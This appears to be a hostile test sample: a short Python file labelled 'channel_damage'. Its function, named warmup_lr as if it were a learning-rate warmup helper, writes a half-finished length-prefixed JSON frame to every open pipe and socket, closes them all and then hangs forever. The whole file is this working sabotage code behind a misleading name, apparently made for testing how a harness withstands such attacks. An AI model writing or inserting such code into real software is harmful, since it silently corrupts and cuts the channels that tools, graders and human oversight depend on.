# kind: hostile
# attack: channel_damage
# about: Writes half a frame to every pipe and socket, closes them all and goes on running.

import os
import stat
import time


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def warmup_lr(step: int, warmup_steps: int, max_lr: float) -> float:
    for descriptor in channel_descriptors():
        try:
            os.write(descriptor, (1_000).to_bytes(4, "little") + b'{"ok": true, "value": ')
        except OSError:
            pass
        os.close(descriptor)
    while True:
        time.sleep(1)
